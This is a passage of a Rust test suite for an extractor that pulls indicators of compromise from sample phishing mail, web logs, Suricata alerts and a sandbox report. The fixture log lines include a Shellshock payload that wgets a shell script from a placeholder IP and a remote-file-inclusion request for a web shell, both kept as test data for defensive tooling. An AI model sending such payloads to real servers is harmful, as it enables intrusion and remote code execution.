MD5: d41d8cd98f00b204e9800998ecf8427e
IPv6: 2001:db8:85a3::8a2e:370:7334
参考: https://www.jpcert.or.jp/at/2026/at260001.html
";

    const PHISHING_MAIL: &str = "\
Return-Path: <bounce@mailer.evil-sender.com>
Received: from mail.evil-sender.com (mail.evil-sender.com [192.0.2.10])
\tby mx.victim.co.jp (Postfix) with ESMTP id 4F3A21C0042
\tfor <taro.yamada@victim.co.jp>; Sat, 22 Nov 2026 09:15:02 +0900 (JST)
From: \"Amazon Support\" <support@amaz0n-verify.com>
To: taro.yamada@victim.co.jp
Subject: Your account has been suspended
Date: Sat, 22 Nov 2026 09:15:01 +0900
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
Content-Type: text/html; charset=UTF-8

Dear customer,
Please verify your account at https://amaz0n-verify.com/login?session=abc123 within 24 hours.
Attachment: invoice.pdf.zip
";

    const ACCESS_LOG: &str = r#"203.0.113.50 - - [22/Nov/2026:10:01:02 +0900] "GET /wp-login.php HTTP/1.1" 200 1234 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36"
198.51.100.23 - - [22/Nov/2026:10:01:05 +0900] "GET /index.php?page=http://evil.example.net/shell.txt HTTP/1.1" 404 512 "http://referrer.example.org/" "curl/7.68.0"
192.0.2.77 - - [22/Nov/2026:10:01:09 +0900] "GET /cgi-bin/test.sh HTTP/1.1" 400 0 "-" "() { :; }; /bin/bash -c 'wget http://198.51.100.99/x.sh -O /tmp/x.sh'"
2026/11/22 10:01:10 [error] 1234#1234: *5 open() "/var/www/html/.env" failed (2: No such file or directory), client: 2001:db8::bad:1, server: www.victim.co.jp, request: "GET /.env HTTP/1.1", host: "www.victim.co.jp"
"#;

    const SURICATA: &str = "\
11/22/2026-10:15:30.123456  [**] [1:2024897:3] ET MALWARE Cobalt Strike Beacon Observed [**] [Classification: A Network Trojan was detected] [Priority: 1] {TCP} 10.0.5.23:49721 -> 185.220.101.45:443
{\"timestamp\":\"2026-11-22T10:15:30.123456+0900\",\"event_type\":\"alert\",\"src_ip\":\"10.0.5.23\",\"dest_ip\":\"2001:db8:85a3::8a2e:370:7334\",\"http\":{\"hostname\":\"cdn.evil-update.net\",\"url\":\"/gate.php\"}}
";

    const SANDBOX_REPORT: &str = "\
Process: C:\\Users\\admin\\AppData\\Local\\Temp\\invoice.exe (PID 4412)
MD5: 44d88612fea8a8f36de82e1278abb02f
SHA1: 3395856ce81f2b7382dee72602f798b642f14140
SHA256: 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f
Dropped: C:\\ProgramData\\svchost.exe
Registry: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater
DNS query: update.microsoft-cdn.xyz -> 45.133.1.20
HTTP: POST http://45.133.1.20:8080/api/v1/beacon
Mutex: Global\\3f2504e0-4f89-11d3-9a0c-0305e82c3301
Version: 2.4.1-beta, build 10.0.19041
Also contacted: 2001:db8::dead:beef and fe80::1ff:fe23:4567:890a
Script: powershell.exe -enc SQBFAFgA; wscript.exe run.sh
CreateObject(\"WScript.Shell\") / ADODB.Stream
Dropped files: payload.zip, readme.md, /tmp/.x/evil.sh
";

    #[test]
    fn realistic_texts() {
        type Case<'a> = (&'a str, &'a str, &'a [(Kind, &'a str)]);
        let cases: &[Case] = &[
            (
                "JPCERT-style advisory",
                JPCERT_ADVISORY,
                &[
                    (Url, "https://update-check.co.jp/download/setup.exe"),
                    (Ipv4, "203.0.113.45"),
                    (Ipv4, "198.51.100.7"),
                    (Domain, "evil-c2.example"),
                    (Email, "attacker@phish.example"),
                    (
                        Sha256,
                        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                    ),
                    (Md5, "d41d8cd98f00b204e9800998ecf8427e"),
                    (Ipv6, "2001:db8:85a3::8a2e:370:7334"),
                    (Url, "https://www.jpcert.or.jp/at/2026/at260001.html"),
                ],
            ),
            (
                "phishing e-mail",
                PHISHING_MAIL,
                &[
                    (Email, "bounce@mailer.evil-sender.com"),
                    (Domain, "mail.evil-sender.com"),
                    (Ipv4, "192.0.2.10"),
                    (Domain, "mx.victim.co.jp"),
                    (Email, "taro.yamada@victim.co.jp"),
                    (Email, "support@amaz0n-verify.com"),
                    (Url, "https://github.com/PHPMailer/PHPMailer"),
                    (Url, "https://amaz0n-verify.com/login?session=abc123"),
                ],
            ),
            (
                "access and error log",
                ACCESS_LOG,
                &[
                    (Ipv4, "203.0.113.50"),
                    (Ipv4, "198.51.100.23"),
                    (Url, "http://evil.example.net/shell.txt"),
                    (Url, "http://referrer.example.org/"),
                    (Ipv4, "192.0.2.77"),
                    (Url, "http://198.51.100.99/x.sh"),
                    (Ipv6, "2001:db8::bad:1"),
                    (Domain, "www.victim.co.jp"),
                ],
            ),
            (
                "Suricata alert and EVE record",
                SURICATA,
                &[
                    (Ipv4, "10.0.5.23"),
                    (Ipv4, "185.220.101.45"),
                    (Ipv6, "2001:db8:85a3::8a2e:370:7334"),
                    (Domain, "cdn.evil-update.net"),
                ],
            ),
            (
                "sandbox report",
                SANDBOX_REPORT,
                &[
                    (Md5, "44d88612fea8a8f36de82e1278abb02f"),
                    (Sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
                    (
                        Sha256,
                        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                    ),
                    (Domain, "update.microsoft-cdn.xyz"),
                    (Ipv4, "45.133.1.20"),
                    (Url, "http://45.133.1.20/api/v1/beacon"),
                    (Ipv6, "2001:db8::dead:beef"),
                    (Ipv6, "fe80::1ff:fe23:4567:890a"),
                ],
            ),
        ];
        for (name, text, want) in cases {
            let got = found(text);
            let want: Vec<(Kind, String)> = want.iter().map(|(k, v)| (*k, v.to_string())).collect();
            assert_eq!(got, want, "{name}");
            for e in extract(text) {
                assert_eq!(&text[e.span.clone()], e.raw, "{name}");
            }
        }
    }

    fn text_strategy() -> impl Strategy<Value = String> {
        let token = prop_oneof![
            "[a-z]{1,8}\\.(com|zip|jp|example|sh)",
            "[a-z]{1,6}(\\[\\.\\]|\\.)[a-z]{2,4}",
            "(hxxp|http|https)(://|\\[:\\]//)[a-z.\\[\\]]{1,15}(/[a-zA-Z0-9._%()?=&#-]{0,15})?",
            "[0-9]{1,3}(\\.|\\[\\.\\])[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}(/[0-9]{1,2})?",
            "[0-9a-f:]{2,20}",
            "[0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{64}",
            "[a-z.]{1,8}(@|\\[@\\])[a-z]{1,8}\\.(com|example)",
            "[ \\t\\n.,;:!?'\"()<>\\[\\]/\\\\@]{1,3}",
            "\\PC{1,6}",
        ];
        proptest::collection::vec(token, 0..12).prop_map(|v| v.concat())
    }

    proptest! {
        #[test]
        fn never_panics(text in "\\PC{0,200}|.{0,200}") {
            for e in extract(&text) {
                prop_assert_eq!(&text[e.span.clone()], e.raw.as_str());
            }
        }

        #[test]
        fn extracted_values_are_canonical(text in text_strategy()) {
            let got = extract(&text);
            let mut seen = HashSet::new();
            let mut last_start = 0;
            for e in &got {
                let again = canonicalize(e.observable.kind, &e.observable.value);
                prop_assert_eq!(again.as_ref(), Ok(&e.observable), "in {:?}", text);
                // Also when re-canonicalized from the raw text.
                let from_raw = canonicalize(e.observable.kind, &e.raw);
                prop_assert_eq!(from_raw.as_ref(), Ok(&e.observable), "raw {:?} in {:?}", e.raw, text);
                prop_assert_eq!(&text[e.span.clone()], e.raw.as_str());
                prop_assert!(seen.insert(e.observable.clone()));
                prop_assert!(e.span.start >= last_start);
                last_start = e.span.start;
            }
        }
    }
}
